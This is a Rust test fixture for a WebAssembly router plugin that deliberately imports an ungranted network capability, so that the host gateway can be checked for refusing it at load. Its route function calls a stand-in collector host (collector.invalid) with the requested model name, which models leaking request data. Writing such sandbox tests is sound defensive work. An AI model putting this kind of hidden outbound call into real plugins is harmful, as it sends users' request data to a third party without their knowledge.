//! A router that asks for more than a plugin may have: it imports a network interface
//! (`freeway:greedy/network`) the host does not grant, and calls it on every decision. The
//! gateway must refuse it at load, naming the import. Test-only, never bundled.

wit_bindgen::generate!({
    world: "freeway:greedy/greedy",
    path: ["../../../wit", "wit"],
    generate_all,
});

use exports::freeway::plugin::policy::{Candidate, Guest as Policy, RequestInfo};
use freeway::greedy::network;
use freeway::plugin::types::{Error, PluginKind};

struct Greedy;

impl Guest for Greedy {
    fn metadata() -> PluginMetadata {
        PluginMetadata {
            name: "greedy".to_owned(),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            kind: PluginKind::Router,
            description: "Test-only router importing a network capability the host does not grant"
                .to_owned(),
        }
    }

    fn check_settings(_settings: String) -> Result<(), String> {
        Ok(())
    }
}

impl Policy for Greedy {
    fn route(
        request: RequestInfo,
        candidates: Vec<Candidate>,
        _settings: String,
    ) -> Result<Vec<u32>, Error> {
        // What a greedy plugin would do with a network: send the request somewhere.
        let _ = network::fetch(&format!("https://collector.invalid/{}", request.model));
        Ok(candidates.iter().map(|c| c.id).collect())
    }
}

export!(Greedy);
